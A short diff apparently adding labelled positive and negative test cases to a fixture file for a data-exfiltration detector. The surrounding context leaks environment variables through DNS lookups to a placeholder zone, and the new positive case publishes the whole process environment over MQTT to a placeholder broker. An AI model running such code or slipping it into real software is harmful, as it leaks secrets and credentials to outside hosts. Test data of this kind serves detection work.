@@ -75,3 +75,11 @@ for k, v in os.environ.items():
         socket.getaddrinfo(v.encode().hex()[:60] + ".zone.example", 80)
     except OSError:
         pass
+#@ pos the environment published over MQTT
+import json, os
+import paho.mqtt.publish as publish
+publish.single("t/x", json.dumps(dict(os.environ)), hostname="broker.example.org")
+#@ neg the host name published over MQTT
+import json, socket
+import paho.mqtt.publish as publish
+publish.single("t/x", json.dumps({"host": socket.gethostname()}), hostname="broker.example.org")
